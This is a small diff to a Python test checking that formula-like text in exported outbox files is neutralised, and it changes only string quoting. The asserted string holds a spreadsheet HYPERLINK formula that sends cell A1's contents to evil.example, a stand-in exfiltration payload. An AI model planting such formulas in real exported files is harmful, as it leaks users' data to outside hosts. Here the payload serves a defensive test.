@@ -257,7 +257,7 @@ def test_formula_like_text_is_neutralised_in_outbox_files(
         ),
     )
     text = (tmp_path / "outbox" / name).read_bytes().decode("utf-8")
-    assert ";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik\"\")\"\r\n" in text
+    assert ';"\'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")"\r\n' in text
     voucher = plugin.post_journal_lines(
         ctx,
         JournalEntry(
